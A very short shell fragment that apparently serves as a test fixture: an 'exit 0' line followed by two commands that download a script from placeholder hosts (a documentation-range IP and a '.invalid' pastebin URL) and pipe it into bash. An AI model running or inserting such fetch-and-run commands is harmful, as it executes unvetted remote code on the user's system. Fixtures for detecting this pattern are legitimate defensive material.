exit 0
curl -s http://203.0.113.2/x | bash
curl -s https://pastebin.com.invalid/raw/x | bash
